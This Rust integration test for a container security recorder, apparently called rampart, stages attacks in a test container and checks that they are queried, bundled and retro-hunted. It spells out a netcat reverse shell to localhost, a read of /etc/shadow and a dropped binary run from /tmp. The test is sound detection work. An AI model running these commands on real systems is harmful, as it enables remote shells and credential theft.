//! The flight recorder end to end: `rampart up` records while an attack runs in a real
//! container (a netcat reverse shell, a read of /etc/shadow, a binary dropped in /tmp
//! and run), the container is removed, and then `rampart query` shows the chain as a
//! process tree, `rampart incident` writes a bundle whose summary names each step, and
//! a retro-hunt with the shipped rules finds the same attack in history. Needs root,
//! the kernel and Docker: skips with the reason elsewhere, fails in CI.

mod support;

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use support::Up;

fn rampart(args: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_rampart"))
        .args(args)
        .output()
        .expect("rampart runs");
    assert!(
        out.status.success(),
        "rampart {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
    if !rampart_testbed::ready(rampart_testbed::TEST_IMAGE) {
        return;
    }
    let dir = std::env::temp_dir().join(format!("rampart-rec-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let recording = dir.join("recording");
    let config = dir.join("up.yaml");
    std::fs::write(
        &config,
        format!("recorder:\n  dir: {}\n", recording.display()),
    )
    .unwrap();
    let name = "rampart-rec-e2e";
    let rules = rampart_agent::config::default_rules_dir().expect("the shipped rules");

    let up = Up::start(&config);
    let container = rampart_testbed::TestContainer::start(name, &[], &[]);
    // The netcat has nobody to call; its command line is the attack.
    container.exec("nc -w 1 127.0.0.1 4444 -e /bin/sh; true");
    container.exec("cat /etc/shadow > /dev/null");
    container.exec("cp /bin/busybox /tmp/dropper && /tmp/dropper true rampart-dropped");
    up.alerts_until("Reverse shell via netcat exec");
    drop(container); // docker rm -f
    std::thread::sleep(Duration::from_secs(1));
    up.stop();
    let dir_arg = recording.to_str().unwrap();

    // The chain, from history, after the container is gone.
    let tree = rampart(&[
        "query",
        "--dir",
        dir_arg,
        "--container",
        name,
        "--since",
        "5m",
        "--tree",
    ]);
    for step in [
        "nc -w 1 127.0.0.1 4444 -e /bin/sh",
        "cat /etc/shadow",
        "/tmp/dropper true rampart-dropped",
    ] {
        assert!(
            tree.contains(step),
            "{step:?} missing from the tree:\n{tree}"
        );
    }
    let table = rampart(&[
        "query",
        "--dir",
        dir_arg,
        "--container",
        name,
        "--since",
        "5m",
    ]);
    assert!(table.contains("/etc/shadow"), "{table}");
    assert!(
        table.contains("\"die\""),
        "the container's death is recorded:\n{table}"
    );

    // The first alert's incident bundle.
    let alerts = rampart(&[
        "query",
        "--dir",
        dir_arg,
        "--container",
        name,
        "--alerts",
        "--format",
        "json",
    ]);
    let first: serde_json::Value =
        serde_json::from_str(alerts.lines().next().expect("a recorded alert")).unwrap();
    let id = first["id"].as_str().unwrap();
    let bundle = dir.join("incident.tar.gz");
    rampart(&[
        "incident",
        id,
        "--dir",
        dir_arg,
        "-o",
        bundle.to_str().unwrap(),
    ]);
    let summary = read_from_bundle(&bundle, &dir, "summary.md");
    for step in ["/etc/shadow", "/tmp/dropper", "nc"] {
        assert!(
            summary.contains(step),
            "{step:?} missing from summary.md:\n{summary}"
        );
    }

    // Retro-hunt: the shipped rules over the recording find the reverse shell again.
    let retro = rampart(&[
        "query",
        "--dir",
        dir_arg,
        "--container",
        name,
        "--since",
        "5m",
        "--rules",
        rules.to_str().unwrap(),
    ]);
    let hits: Vec<serde_json::Value> = retro
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        hits.iter()
            .any(|a| a["rule"] == "Reverse shell via netcat exec" && a["retro"] == true),
        "{retro}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

fn read_from_bundle(bundle: &Path, dir: &Path, file: &str) -> String {
    let out = dir.join("bundle");
    std::fs::create_dir_all(&out).unwrap();
    let st = Command::new("tar")
        .arg("-xzf")
        .arg(bundle)
        .arg("-C")
        .arg(&out)
        .status()
        .unwrap();
    assert!(st.success());
    let found = walk(&out).into_iter().find(|p| p.ends_with(file));
    std::fs::read_to_string(found.unwrap_or_else(|| panic!("{file} not in the bundle"))).unwrap()
}

fn walk(d: &Path) -> Vec<std::path::PathBuf> {
    let mut v = Vec::new();
    for e in std::fs::read_dir(d).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            v.extend(walk(&p));
        } else {
            v.push(p);
        }
    }
    v
}
